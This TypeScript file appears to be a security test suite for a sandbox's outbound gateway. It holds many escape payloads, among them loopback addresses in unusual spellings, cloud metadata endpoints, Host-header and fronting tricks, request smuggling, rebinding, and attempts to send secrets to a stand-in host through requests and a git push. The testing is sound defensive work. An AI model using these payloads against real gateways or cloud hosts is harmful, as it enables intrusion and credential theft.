/** Through the gateway, to where it must not lead: what is asked for is spelled so that somebody might read it otherwise. */
import type { Attempt } from "./attempt.ts";

/** The gateway lets this pass, so that the same words in front of another target are not refused for being wrong. */
const allowed = {
  inside: `through "CONNECT localhost:$ALLOWED HTTP/1.1\\r\\nHost: localhost:$ALLOWED\\r\\n\\r\\nGET / HTTP/1.1\\r\\nHost: localhost:$ALLOWED\\r\\nConnection: close\\r\\n\\r\\n"`,
};
const allowedPlain = {
  inside: `through "GET http://localhost:$ALLOWED/ HTTP/1.1\\r\\nHost: localhost:$ALLOWED\\r\\nConnection: close\\r\\n\\r\\n"`,
};

const refusedByGateway = /HTTP\/1\.1 4\d\d|REFUSED\s*$/;

function connect(target: string, host = target): string {
  return `through "CONNECT ${target} HTTP/1.1\\r\\nHost: ${host}\\r\\n\\r\\nGET / HTTP/1.1\\r\\nHost: ${host}\\r\\nConnection: close\\r\\n\\r\\n"`;
}

/** name, what is asked for, fear. */
const targets: readonly [name: string, target: string, fear: string][] = [
  ["an address of the host", "127.0.0.1:$TCP", "An address gets past a list of names."],
  ["an address with fewer parts", "127.1:$TCP", "An odd spelling is taken for a name, and resolved."],
  ["an address as one number", "2130706433:$TCP", "An odd spelling is taken for a name, and resolved."],
  ["an address in hexadecimal", "0x7f.1:$TCP", "An odd spelling is taken for a name, and resolved."],
  ["an address in octal", "0177.0.0.1:$TCP", "An odd spelling is taken for a name, and resolved."],
  ["the unspecified address", "0.0.0.0:$TCP", "0.0.0.0 is this computer for many programs."],
  ["IPv6 loopback", "[::1]:$TCP", "IPv6 was forgotten."],
  ["IPv4 in IPv6", "[::ffff:127.0.0.1]:$TCP", "A mapped address is compared with no list."],
  ["IPv4 in IPv6, in hexadecimal", "[::ffff:7f00:1]:$TCP", "A mapped address is compared with no list."],
  ["the metadata service", "169.254.169.254:80", "The gateway itself is sent to fetch the machine's credentials."],
  ["the metadata service by name", "metadata.google.internal:80", "The gateway is sent to fetch credentials."],
  ["another port of an allowed host", "localhost:$TCP", "A name that is allowed leads to every service there."],
  ["an allowed host with a dot behind it", "localhost.:$TCP", "A spelling gets past the port of the rule."],
  ["an allowed host before an @", "localhost:$ALLOWED@127.0.0.1:$TCP", "User information is taken for the host."],
  ["an allowed host behind a NUL", "127.0.0.1%%00.localhost:$TCP", "A string ends earlier for one reader."],
  ["an allowed host behind a #", "127.0.0.1:$TCP#localhost:$ALLOWED", "A fragment is taken for the host."],
  ["a name that only looks like an allowed one", "l\\316\\277calhost:$TCP", "Other letters look the same."],
  ["digits of another script", "\\357\\274\\221\\357\\274\\222\\357\\274\\227.0.0.1:$TCP", "Wide digits become plain."],
  ["a domain below an allowed name", "evil.localhost:$ALLOWED", "A comparison from the end takes too much."],
  ["a name that ends like an allowed one", "evillocalhost:$ALLOWED", "A comparison from the end takes too much."],
  ["Cellar's own window server", "127.0.0.1:$MAIN_PORT", "The gateway is used to drive Cellar."],
  ["a host that nobody allowed", "denied.example:443", "It reaches whoever it wants."],
];

const spelled: Attempt[] = targets.map(([name, target, fear]) => ({
  name: `CONNECT to ${name}`,
  fear,
  script: connect(target),
  refused: refusedByGateway,
  control: allowed,
}));

const requests: Attempt[] = [
  {
    name: "HTTP to an address of the host",
    fear: "Plain HTTP is not looked at.",
    script: `through "GET http://127.0.0.1:$TCP/ HTTP/1.1\\r\\nHost: 127.0.0.1:$TCP\\r\\nConnection: close\\r\\n\\r\\n"`,
    refused: refusedByGateway,
    control: allowedPlain,
  },
  {
    name: "a secret in a path, a query, a header and a body, to a host that is not allowed",
    fear: "My key leaves with a request, wherever in it it is.",
    script: `
at=127.0.0.1:$TCP
through "GET http://$at/$SECRET HTTP/1.1\\r\\nHost: $at\\r\\nConnection: close\\r\\n\\r\\n"
through "GET http://$at/?q=$SECRET HTTP/1.1\\r\\nHost: $at\\r\\nConnection: close\\r\\n\\r\\n"
through "GET http://$at/ HTTP/1.1\\r\\nHost: $at\\r\\nX-Data: $SECRET\\r\\nConnection: close\\r\\n\\r\\n"
through "POST http://$at/ HTTP/1.1\\r\\nHost: $at\\r\\nContent-Length: \${#SECRET}\\r\\nConnection: close\\r\\n\\r\\n$SECRET"
through "POST http://$SECRET.denied.example/ HTTP/1.1\\r\\nHost: $SECRET.denied.example\\r\\nContent-Length: 0\\r\\n\\r\\n"`,
    refused: refusedByGateway,
    control: allowedPlain,
  },
  {
    name: "a secret in a git push to a host that is not allowed",
    fear: "My key leaves with a commit.",
    script: `
export GIT_TERMINAL_PROMPT=0
mkdir -p /tmp/push && cd /tmp/push && git init -q . && echo "$SECRET" > file && git add file && git -c user.name=a -c user.email=a@b.example commit -qm "$SECRET"
tries git -c http.proxy=http://127.0.0.1:9099 push "http://127.0.0.1:$TCP/repo.git" HEAD:main
tries git push "git://127.0.0.1:$TCP/repo.git" HEAD:main`,
    refused: /403|unable to connect|Connection refused/i,
    control: allowedPlain,
  },
  {
    name: "a Host header that names another host than the address",
    fear: "One reader goes by the address, the next by the header (domain fronting).",
    script: `
through "GET http://localhost:$ALLOWED/ HTTP/1.1\\r\\nHost: 127.0.0.1:$TCP\\r\\nConnection: close\\r\\n\\r\\n"
through "GET http://127.0.0.1:$TCP/ HTTP/1.1\\r\\nHost: localhost:$ALLOWED\\r\\nConnection: close\\r\\n\\r\\n"
through "CONNECT 127.0.0.1:$TCP HTTP/1.1\\r\\nHost: localhost:$ALLOWED\\r\\n\\r\\nGET / HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n"
through "GET http://localhost:$ALLOWED/ HTTP/1.1\\r\\nHost: localhost:$ALLOWED\\r\\nHost: 127.0.0.1:$TCP\\r\\nConnection: close\\r\\n\\r\\n"`,
    refused: refusedByGateway,
    control: allowedPlain,
  },
  {
    name: "a second request in a tunnel to an allowed host, for another one",
    fear: "What is let through once is not looked at again.",
    script: `
through "CONNECT localhost:$ALLOWED HTTP/1.1\\r\\nHost: localhost:$ALLOWED\\r\\n\\r\\nGET / HTTP/1.1\\r\\nHost: 127.0.0.1:$TCP\\r\\nConnection: close\\r\\n\\r\\n"
through "CONNECT localhost:$ALLOWED HTTP/1.1\\r\\nHost: localhost:$ALLOWED\\r\\n\\r\\nGET http://127.0.0.1:$TCP/ HTTP/1.1\\r\\nHost: 127.0.0.1:$TCP\\r\\nConnection: close\\r\\n\\r\\n"
through "CONNECT localhost:$ALLOWED HTTP/1.1\\r\\nHost: localhost:$ALLOWED\\r\\n\\r\\nCONNECT 127.0.0.1:$TCP HTTP/1.1\\r\\nHost: 127.0.0.1:$TCP\\r\\n\\r\\n"`,
    refused: refusedByGateway,
    control: allowed,
  },
  {
    name: "a request hidden in another one (smuggling)",
    fear: "Two readers disagree about where a request ends, and the second half is nobody's.",
    script: `
at=localhost:$ALLOWED
hidden="GET http://127.0.0.1:$TCP/ HTTP/1.1\\r\\nHost: 127.0.0.1:$TCP\\r\\n\\r\\n"
through "POST http://$at/ HTTP/1.1\\r\\nHost: $at\\r\\nContent-Length: 6\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\n$hidden"
through "POST http://$at/ HTTP/1.1\\r\\nHost: $at\\r\\nTransfer-Encoding: chunked, identity\\r\\n\\r\\n0\\r\\n\\r\\n$hidden"
through "POST http://$at/ HTTP/1.1\\r\\nHost: $at\\r\\nTransfer-Encoding : chunked\\r\\n\\r\\n0\\r\\n\\r\\n$hidden"
through "POST http://$at/ HTTP/1.1\\r\\nHost: $at\\r\\nContent-Length: 0\\r\\nContent-Length: 60\\r\\n\\r\\n$hidden"
through "GET http://$at/ HTTP/1.1\\nHost: $at\\n\\n$hidden"
through "GET http://$at/ HTTP/1.1\\r\\nHost: $at\\r\\nX: a\\rHost: 127.0.0.1:$TCP\\r\\n\\r\\n"`,
    refused: refusedByGateway,
    control: allowedPlain,
  },
  {
    name: "a WebSocket to a host that is not allowed",
    fear: "An upgrade is a way past the rules.",
    script: `through "GET http://127.0.0.1:$TCP/ HTTP/1.1\\r\\nHost: 127.0.0.1:$TCP\\r\\nConnection: Upgrade\\r\\nUpgrade: websocket\\r\\nSec-WebSocket-Version: 13\\r\\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\\r\\n\\r\\n"`,
    refused: refusedByGateway,
    control: allowedPlain,
  },
  {
    name: "HTTP/2 in a tunnel, for a hidden host",
    fear: "A protocol that the gateway cannot read passes.",
    script: `through "CONNECT localhost:$ALLOWED HTTP/1.1\\r\\nHost: localhost:$ALLOWED\\r\\n\\r\\nPRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n\\000\\000\\000\\004\\000\\000\\000\\000\\000"`,
    refused: /REFUSED HTTP\/1\.1 200[\s\S]*(400|505|^$)|REFUSED/m,
    control: allowed,
  },
  {
    name: "something that is neither TLS nor HTTP in a tunnel",
    fear: "SSH or a tunnel of its own passes to a host that is allowed for the web.",
    script: `through "CONNECT localhost:$ALLOWED HTTP/1.1\\r\\nHost: localhost:$ALLOWED\\r\\n\\r\\nSSH-2.0-OpenSSH_9.9\\r\\n"`,
    refused: /REFUSED HTTP\/1\.1 200/,
    control: allowed,
  },
  {
    name: "an allowed name that leads to the host's loopback (rebinding)",
    fear: "Whoever owns an allowed name lets it point into my network.",
    script: `through "GET http://$REBOUND:$TCP/ HTTP/1.1\\r\\nHost: $REBOUND:$TCP\\r\\nConnection: close\\r\\n\\r\\n"
through "CONNECT $REBOUND:$TCP HTTP/1.1\\r\\nHost: $REBOUND:$TCP\\r\\n\\r\\nGET / HTTP/1.1\\r\\nHost: $REBOUND:$TCP\\r\\nConnection: close\\r\\n\\r\\n"`,
    refused: /403|502|REFUSED/,
    control: allowedPlain,
  },
];

/** The first bytes of TLS were recorded outside; what comes back is an alert (15) or a server's hello (16). */
const helloWords = `
hello() {
  answer=$( { printf "CONNECT localhost:$ALLOWED_TLS HTTP/1.1\\r\\nHost: localhost:$ALLOWED_TLS\\r\\n\\r\\n"; cat "$WORK/.escape/hello-$1"; } | "$PROBE" sayhex 127.0.0.1 9099)
  case $answer in *0d0a0d0a1603*) echo "ESCAPED a server answered";; *0d0a0d0a1503*) echo "REFUSED with an alert";; *) echo "REFUSED $answer";; esac
}
`;

const allowedTls = { inside: `${helloWords}hello localhost` };

const tls: Attempt[] = [
  {
    name: "TLS for another server than CONNECT named (domain fronting)",
    fear: "A tunnel to an allowed host is one to any site on the same servers.",
    script: `${helloWords}hello other`,
    refused: /REFUSED with an alert/,
    control: allowedTls,
  },
  {
    name: "TLS that names no server",
    fear: "Without a name nobody can tell whom it is for.",
    script: `${helloWords}hello none`,
    refused: /REFUSED with an alert/,
    control: allowedTls,
  },
];

const detected: Attempt[] = [
  {
    name: "a token in a path, a query, a header and a body, to an allowed host with detectors",
    fear: "My key leaves to a host that is allowed for something else.",
    script: `
at=localhost:$WATCHED
through "GET http://$at/$TOKEN HTTP/1.1\\r\\nHost: $at\\r\\nConnection: close\\r\\n\\r\\n"
through "GET http://$at/?q=$TOKEN HTTP/1.1\\r\\nHost: $at\\r\\nConnection: close\\r\\n\\r\\n"
through "GET http://$at/ HTTP/1.1\\r\\nHost: $at\\r\\nX-Data: $TOKEN\\r\\nConnection: close\\r\\n\\r\\n"
through "POST http://$at/ HTTP/1.1\\r\\nHost: $at\\r\\nContent-Length: \${#TOKEN}\\r\\nConnection: close\\r\\n\\r\\n$TOKEN"`,
    refused: /HTTP\/1\.1 4\d\d/,
    control: {
      inside: `at=localhost:$WATCHED; through "GET http://$at/harmless HTTP/1.1\\r\\nHost: $at\\r\\nConnection: close\\r\\n\\r\\n"`,
    },
  },
];

export const gatewayAttempts: readonly Attempt[] = [...spelled, ...requests, ...tls, ...detected];
